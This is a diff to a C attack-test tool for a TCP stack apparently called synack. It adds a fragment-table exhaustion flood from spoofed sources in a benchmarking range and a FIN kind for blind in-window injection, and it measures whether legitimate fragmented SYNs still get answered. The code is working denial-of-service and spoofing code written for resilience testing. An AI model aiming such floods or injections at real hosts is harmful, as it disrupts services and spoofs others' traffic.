@@ -7,10 +7,12 @@
  *   attack_tool syn       --if IF --dmac MAC --dst IP --dport P --rate PPS --secs S
  *       SYNs from random sources in 198.19.0.0/16 (off-link: synack answers through its gateway,
  *       the kernel, which drops them) with random ports and ISNs.
- *   attack_tool inject    --if IF --dmac MAC --dst IP --dport P --src IP --sport P --kind rst|syn|data
+ *   attack_tool inject    --if IF --dmac MAC --dst IP --dport P --src IP --sport P --kind rst|syn|fin|data
  *                         --step W --rate PPS [--secs S]
  *       A blind attacker who knows the 4-tuple but not the sequence numbers: one segment at every
  *       window position (sequence 0, W, 2W, ... up to 2^32), with a guessed acknowledgment.
+ *   attack_tool fragfill  --if IF --dmac MAC --dst IP --dport P --rate PPS --secs S
+ *       Fragments that never complete from random sources (see mode_fragfill).
  *   attack_tool malformed --if IF --dmac MAC --dst IP --dport P --src IP --sport P
  *                         --dst6 IP6 --src6 IP6 --rate PPS --secs S
  *       Malformed frames in round robin (see the kinds below), plus spoofed ICMP errors about the
@@ -290,11 +292,12 @@ static int mode_inject(tool_t *t) {
   size_t payload = 0;
   if (strcmp(t->kind, "rst") == 0) flags = SYNACK_TCP_RST;
   else if (strcmp(t->kind, "syn") == 0) flags = SYNACK_TCP_SYN;
+  else if (strcmp(t->kind, "fin") == 0) flags = SYNACK_TCP_FIN | SYNACK_TCP_ACK;
   else if (strcmp(t->kind, "data") == 0) {
     flags = SYNACK_TCP_ACK | SYNACK_TCP_PSH;
     payload = 64;
   } else {
-    fprintf(stderr, "attack_tool: --kind rst|syn|data\n");
+    fprintf(stderr, "attack_tool: --kind rst|syn|fin|data\n");
     return 2;
   }
   if (!t->step) t->step = 65535;
@@ -323,6 +326,98 @@ static int mode_inject(tool_t *t) {
   printf("inject %s: %llu of %llu window positions (step %u); synack answered with %llu pure ACKs\n", t->kind,
          (unsigned long long)i, (unsigned long long)positions, t->step, (unsigned long long)t->pure_acks);
   return i == positions ? 0 : 1;
+}
+
+/* Fragment-table fill: from random sources in 198.19.0.0/16, the last 8 bytes of a datagram of
+ * 65,528 (offset 65,520, MF clear) — a context that would reserve the whole datagram if memory
+ * were charged up to the highest offset — and a first fragment (offset 0, MF) of another, each
+ * with a fresh identification: none ever completes. */
+#define LEGIT_PORT0 50000
+#define LEGIT_MAX 1024
+
+/* A legitimate SYN from --src (port LEGIT_PORT0 + k) cut in two 16-byte fragments. */
+static void legit_frag_syn(tool_t *t, batch_t *b, uint32_t k) {
+  static const uint8_t opts[] = { 2, 4, 0x05, 0xb4, 1, 1, 1, 1, 1, 1, 1, 0 }; /* mss 1460, nops, eol */
+  uint8_t seg[32];
+  memcpy(seg + 20, opts, sizeof opts);
+  tcp_hdr(seg, (uint16_t)(LEGIT_PORT0 + k), t->dport, rnd(t), 0, SYNACK_TCP_SYN, sizeof opts, 0, &t->src, &t->dst);
+  uint16_t id = (uint16_t)rnd(t);
+  for (int i = 0; i < 2; i++) {
+    uint8_t *f = b->buf[b->n];
+    size_t o = eth(t, f, 0x0800);
+    memcpy(f + o + 20, seg + 16 * i, 16);
+    ip4_hdr(f + o, &t->src, &t->dst, SYNACK_IPPROTO_TCP, 36, id, (uint16_t)(i ? 2 : 0x2000));
+    b->len[b->n++] = o + 36;
+  }
+}
+
+/* Counts the SYN-ACKs synack sent to the legitimate ports (each port once). */
+static uint32_t sniff_synacks(tool_t *t, uint8_t *answered) {
+  uint8_t fb[FRAME_MAX];
+  uint32_t n = 0;
+  for (int i = 0; i < 4096; i++) {
+    ssize_t len = recv(t->sniff, fb, sizeof fb, MSG_TRUNC);
+    if (len < 0) break;
+    if (len < 14 + 40 || rd16(fb + 12) != 0x0800) continue;
+    const uint8_t *ip = fb + 14, *th = ip + (ip[0] & 15) * 4;
+    if (ip[9] != SYNACK_IPPROTO_TCP || memcmp(ip + 12, t->dst.b, 4) != 0 || th + 20 > fb + len) continue;
+    uint16_t port = rd16(th + 2);
+    if ((th[13] & (SYNACK_TCP_SYN | SYNACK_TCP_ACK)) != (SYNACK_TCP_SYN | SYNACK_TCP_ACK)) continue;
+    if (port < LEGIT_PORT0 || port >= LEGIT_PORT0 + LEGIT_MAX || answered[port - LEGIT_PORT0]) continue;
+    answered[port - LEGIT_PORT0] = 1;
+    n++;
+  }
+  return n;
+}
+
+static int mode_fragfill(tool_t *t) {
+  static batch_t b;
+  static uint8_t answered[LEGIT_MAX];
+  uint64_t start = now_ns(), end = start + (uint64_t)(t->secs * 1e9);
+  uint64_t i = 0, next_legit = start + 500000000ull;
+  uint32_t legit_sent = 0, legit_ok = 0;
+  bool legit = t->src.family == SYNACK_AF_INET;
+  while (now_ns() < end) {
+    if (legit) legit_ok += sniff_synacks(t, answered);
+    if (t->rate <= 0) { /* --rate 0: the legitimate fragments alone (the baseline) */
+      b.n = 0;
+      if (legit && now_ns() >= next_legit && legit_sent < LEGIT_MAX && now_ns() + 500000000ull < end) {
+        legit_frag_syn(t, &b, legit_sent++);
+        next_legit += 100000000ull;
+      }
+      flush(t, &b);
+      struct timespec ts = { 0, 10000000 };
+      nanosleep(&ts, NULL);
+      continue;
+    }
+    for (b.n = 0; b.n < BATCH; b.n++, i++) {
+      uint32_t r = rnd(t);
+      synack_ip_t src = synack_ip4(198, 19, (uint8_t)(r >> 8), (uint8_t)(1 + r % 254));
+      uint8_t *f = b.buf[b.n];
+      size_t o = eth(t, f, 0x0800);
+      memset(f + o + 20, 0x5a, 8);
+      uint16_t frag = (i & 1) ? (uint16_t)(65520 / 8) : 0x2000;
+      ip4_hdr(f + o, &src, &t->dst, SYNACK_IPPROTO_UDP, 28, (uint16_t)(r >> 16), frag);
+      b.len[b.n] = o + 28;
+      /* Every 100 ms (after the first 500), a legitimate fragmented SYN among the attack's. */
+      if (legit && b.n + 3 < BATCH && now_ns() >= next_legit && legit_sent < LEGIT_MAX && now_ns() + 500000000ull < end) {
+        b.n++;
+        legit_frag_syn(t, &b, legit_sent++);
+        b.n--;
+        next_legit += 100000000ull;
+      }
+    }
+    flush(t, &b);
+    pace(t, start, i);
+  }
+  for (int k = 0; legit && k < 20; k++) {
+    struct timespec ts = { 0, 10000000 };
+    nanosleep(&ts, NULL);
+    legit_ok += sniff_synacks(t, answered);
+  }
+  report("fragment fill", &b, start);
+  if (legit) printf("fragment fill: legitimate fragmented SYNs sent %u, answered %u\n", legit_sent, legit_ok);
+  return b.errors ? 1 : 0;
 }
 
 /* ---- malformed kinds: each builds one frame (or a few: fragments) ---- */
@@ -582,7 +677,7 @@ static int mode_malformed(tool_t *t) {
 }
 
 static int usage(void) {
-  fprintf(stderr, "usage: attack_tool syn|inject|malformed --if IF --dmac MAC --dst IP --dport P [options]\n"
+  fprintf(stderr, "usage: attack_tool syn|inject|fragfill|malformed --if IF --dmac MAC --dst IP --dport P [options]\n"
                   "  (see the comment at the top of tests/attack/attack_tool.c)\n");
   return 2;
 }
@@ -631,6 +726,11 @@ int main(int argc, char **argv) {
     t.lossless = true;
     open_sockets(&t, true);
     return mode_inject(&t);
+  }
+  if (strcmp(mode, "fragfill") == 0) {
+    t.lossless = true; /* the legitimate fragments must reach synack */
+    open_sockets(&t, true);
+    return mode_fragfill(&t);
   }
   if (strcmp(mode, "malformed") == 0) {
     if (t.dst6.family != SYNACK_AF_INET6 || t.dst6.b[0] != 0xfd) {
